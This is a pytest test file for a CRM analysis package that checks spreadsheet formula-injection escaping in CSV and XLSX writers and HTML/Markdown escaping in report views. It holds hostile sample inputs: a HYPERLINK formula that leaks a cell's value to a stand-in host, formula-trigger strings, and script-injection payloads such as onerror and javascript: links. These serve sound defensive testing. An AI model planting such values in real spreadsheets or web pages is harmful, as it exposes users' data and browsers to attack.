"""crm_analysis.cells: values from the data shown as text in HTML and as values (never formulas) in spreadsheets.

The monthly run's end-to-end checks are in ``tests/report/test_hostile_values.py``; these are the
helpers one by one, on tiny hand-made frames, plus the writers of :mod:`crm_analysis.io.writing`
and :mod:`crm_analysis.campaigns.outreach` read back with openpyxl.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crm_analysis.cells import (FORMULA_TRIGGERS, escaped_style, markdown_text, neutralise_formulas,
                                restore_formulas)

HOSTILE = ['=HYPERLINK("http://x/?"&C2,"확인")', "+82 10-1234-5678", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
PLAIN = ["김민준", "010-1234-5678", "O'Brien", "'quoted'", "a=b", ""]
#: A CSV cell that is a plain number (a negative amount): a spreadsheet reads it as that number, not a formula.
NUMBER = re.compile(r"^[-+]?[0-9]+(\.[0-9]+)?$")
TEXT_DTYPES = ["object", "string[python]", "string[pyarrow]", "category"]


# --------------------------------------------------------------------------- spreadsheets

@pytest.mark.parametrize("dtype", TEXT_DTYPES)
def test_every_trigger_is_escaped_and_nothing_else_changes(dtype):
    frame = pd.DataFrame({"name": pd.Series(HOSTILE + PLAIN + [None], dtype=dtype)})
    before = frame.copy()
    out = neutralise_formulas(frame)
    pd.testing.assert_frame_equal(frame, before)  # the input is not modified
    shown = out["name"].astype(object).tolist()
    assert shown[:len(HOSTILE)] == ["'" + v for v in HOSTILE]
    assert shown[len(HOSTILE):-1] == PLAIN and pd.isna(shown[-1])
    assert out["name"].dtype == frame["name"].dtype or dtype == "category"


def test_numbers_dates_and_booleans_are_left_alone():
    frame = pd.DataFrame({"balance": [-5, 3], "rate": [-0.5, np.nan], "when": pd.to_datetime(["2026-10-01", None]),
                          "flag": [True, False], "nullable": pd.array([-1, None], dtype="Int64")})
    pd.testing.assert_frame_equal(neutralise_formulas(frame), frame)


def test_headers_and_mixed_columns_are_escaped_too():
    frame = pd.DataFrame({"=cmd": ["x", "y"], "mixed": [-1, "-1"], 3: ["@a", 4.5]}, index=["=a", "b"])
    out = neutralise_formulas(frame)
    assert list(out.columns) == ["'=cmd", "mixed", 3]
    assert out["mixed"].tolist() == [-1, "'-1"] and out[3].tolist() == ["'@a", 4.5]
    assert list(out.index) == ["'=a", "b"]


def test_duplicate_index_labels_and_clashing_categories():
    frame = pd.DataFrame({"c": pd.Categorical(["=x", "'=x", "y"])}, index=[0, 0, 1])
    out = neutralise_formulas(frame)
    assert out["c"].astype(object).tolist() == ["'=x", "'=x", "y"]  # two values now show alike; neither runs
    assert list(out.index) == [0, 0, 1]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.text(min_size=0, max_size=6),
                          st.sampled_from(FORMULA_TRIGGERS).flatmap(lambda t: st.text(max_size=4).map(t.__add__))),
                max_size=12))
def test_restore_undoes_neutralise(values):
    """Property: no text cell starts with a trigger afterwards, and restore_formulas gives the values back
    (a value that already looked escaped, ``'=...``, is the one thing the pair cannot tell apart)."""
    values = [v for v in values if not (isinstance(v, str) and re.match(r"^'[=+\-@\t\r]", v))]
    series = pd.Series(values, dtype="string[pyarrow]")
    escaped = neutralise_formulas(series.to_frame("v"))["v"]
    assert not escaped.dropna().str.startswith(FORMULA_TRIGGERS).any()
    pd.testing.assert_series_equal(restore_formulas(escaped), series, check_names=False)


def test_write_clinic_escapes_csv_and_xlsx_and_load_clinic_reads_the_values_back(tmp_path):
    import openpyxl

    from crm_analysis import load_clinic, write_clinic
    from tests.test_validation import AS_OF, VALID, write_clinic_csv

    source = write_clinic_csv(tmp_path / "source", {**VALID, "patients": [
        {**VALID["patients"][0], "name": HOSTILE[0]}, {**VALID["patients"][1], "name": "@SUM(1+1)"},
        VALID["patients"][2]]})
    clinic = load_clinic(source, as_of=AS_OF)
    assert clinic.patients["name"].tolist()[:2] == [HOSTILE[0], "@SUM(1+1)"]
    for fmt in ("csv", "xlsx"):
        folder = tmp_path / fmt
        written = write_clinic(clinic.tables, folder, format=fmt)
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO((folder / "patients.csv").read_text(encoding="utf-8-sig"))))
            cells = [v for row in rows for v in row]
        else:
            book = openpyxl.load_workbook(written[0])
            assert not [c.coordinate for s in book.worksheets for row in s.iter_rows() for c in row
                        if c.data_type == "f"]
            cells = [c.value for row in book["patients"].iter_rows() for c in row]
        assert "'" + HOSTILE[0] in cells and not [c for c in cells if isinstance(c, str) and
                                                   c.startswith(FORMULA_TRIGGERS)]
        again = load_clinic(folder, as_of=AS_OF)
        assert again.patients["name"].tolist() == clinic.patients["name"].tolist(), fmt


def test_campaign_outreach_files_hold_no_formula(tmp_path):
    import openpyxl

    from crm_analysis.campaigns.outreach import write_outreach

    staff = pd.DataFrame({"이름": HOSTILE[:4], "연락처": ["+82 10-1234-5678", "010-1234-5678", "=1", "x@y.kr"],
                          "n": [-1, 2, 3, 4]})
    written = write_outreach({"outreach": staff}, tmp_path)
    book = openpyxl.load_workbook(next(p for p in written if p.suffix == ".xlsx"))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.column == 3][1:] == [-1, 2, 3, 4], "numbers stay numbers"
    assert [c.value for c in cells if c.column == 2][1:] == ["'+82 10-1234-5678", "010-1234-5678", "'=1", "x@y.kr"]
    text = next(p for p in written if p.suffix == ".csv").read_text(encoding="utf-8-sig")
    cells = [v for row in csv.reader(io.StringIO(text)) for v in row]
    assert not [v for v in cells if v.startswith(FORMULA_TRIGGERS) and not NUMBER.match(v)]
    assert "-1" in cells, "a negative number stays a number"
    assert staff["이름"].tolist() == HOSTILE[:4], "the table given is not modified"


# --------------------------------------------------------------------------- HTML

class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)

    def handle_data(self, data):
        self.text.append(data)


def _parse(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


def test_escaped_style_escapes_cells_headers_index_and_axis_names():
    bad = "<img src=x onerror=alert(1)>"
    frame = pd.DataFrame({bad: [bad, None], "n": [1.5, None]}, index=pd.Index([bad, "b"], name=f"{bad}i"))
    frame.columns.name = f"{bad}c"
    html = escaped_style(frame, {"n": "{:.1f}"}).to_html()
    parsed = _parse(html)
    assert "img" not in parsed.tags, html
    text = "".join(parsed.text)
    assert text.count(bad) == 5 and f"{bad}i" in text and f"{bad}c" in text  # column, cell, index, two names
    assert "1.5" in text and "–" in text
    assert frame.index.name == f"{bad}i", "the input is not modified"


def test_every_report_view_escapes_what_it_shows():
    from crm_analysis.churn import churn_view
    from crm_analysis.i18n import localised_view
    from crm_analysis.value.segmentation import value_view

    bad = "<script>alert(1)</script>"
    frame = pd.DataFrame({"department": [bad], bad: [3]})
    for view in (localised_view, churn_view, value_view):
        parsed = _parse(view(frame, "ko").to_html())
        assert "script" not in parsed.tags, view.__name__
        assert "".join(parsed.text).count(bad) == 2, view.__name__


@pytest.mark.parametrize("lang, yes, no", [("ko", "예", "아니오"), ("en", "Yes", "No")])
def test_escaped_style_formats_every_number_alike(lang, yes, no):
    """Columns without a format go through format_number; count columns show a hidden count as <5 and are listed."""
    frame = pd.DataFrame({"n": pd.array([13612, None], dtype="Int64"), "mean": [43.4, 1 / 3], "flag": [True, False],
                          "mixed": ["text", 2.0], "share": [0.25, 0.5]})
    html = escaped_style(frame, {"share": "{:.1%}"}, lang=lang, counts=["n"]).to_html()
    cells = [c.strip() for c in _parse(html).text if c.strip()]
    for shown in ("13,612", "<5", "43.4", "0.33", yes, no, "text", "2", "25.0%", "50.0%"):
        assert shown in cells, (shown, cells)
    assert not any(re.search(r"\d\.\d{3,}", c) for c in cells) and "True" not in cells
    assert 'data-count-columns="0"' in html
    assert "data-count-columns" not in escaped_style(frame).to_html(), "no count columns, no attribute"


def test_p_value_text_has_two_decimals():
    from crm_analysis.cells import p_value_text

    assert [p_value_text(p) for p in (0.2403, 0.05, 0.0099, float("nan"))] == ["0.24", "0.05", "<0.01", "–"]


def test_markdown_text_renders_as_the_text_itself():
    from nbconvert.filters import markdown2html

    for text in ["[x](javascript:alert(1))", "<script>alert(1)</script>", "![i](x) <javascript:alert(1)>",
                 "현재 예약 알림(3d+1d+2h)은 6.3%p 낮춥니다 (95% 신뢰구간 2.1~10.5%p)", "*a* _b_ `c` # d \\ | &amp;",
                 "~~struck~~ $x$ <https://x.y> a_b_c **b**", "see www.example.com, a@b.co or https://x.y/z"]:
        parsed = _parse(markdown2html("### " + markdown_text(text)))
        assert parsed.tags == ["h3", "a"], (text, parsed.tags)  # the heading and nbconvert's own anchor link
        assert "".join(parsed.text).rstrip("¶") == text


def test_markdown_text_keeps_the_text_readable_on_one_line():
    assert markdown_text("전화 010-1234-5678, 6.3%p (95%)") == "전화 010-1234-5678, 6.3%p (95%)"
    assert markdown_text("one\n# two\r\n- three") == "one \\# two - three"


def test_xlsx_cells_keep_their_types_and_no_text_becomes_a_formula(tmp_path):
    """Texts XlsxWriter's generic ``write`` would read as an array formula or a link stay texts."""
    import openpyxl

    from crm_analysis.io.spreadsheets import xlsx_bytes

    frame = pd.DataFrame({"text": ["{=SUM(A1:A2)}", "http://x.example/?p=1", "", None],
                          "n": [1, -2.5, np.nan, 4], "yes": [True, False, None, True],
                          "when": pd.to_datetime(["2026-11-01 09:30", None, "2026-11-02 00:00", "2026-11-03 00:00"])})
    path = tmp_path / "t.xlsx"
    path.write_bytes(xlsx_bytes(frame, "t", stamp="2026-11-01"))
    ws = openpyxl.load_workbook(path).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f" or c.hyperlink is not None]
    assert [c.value for c in ws["A"]][1:3] == ["{=SUM(A1:A2)}", "http://x.example/?p=1"]
    assert [c.value for c in ws["B"]][1:] == [1, -2.5, None, 4]
    assert [c.value for c in ws["C"]][1:] == [True, False, None, True]
    assert ws["D2"].value == dt.datetime(2026, 11, 1, 9, 30) and ws["D3"].value is None
    assert xlsx_bytes(frame, "t", stamp="2026-11-01") == path.read_bytes(), "the same bytes again"
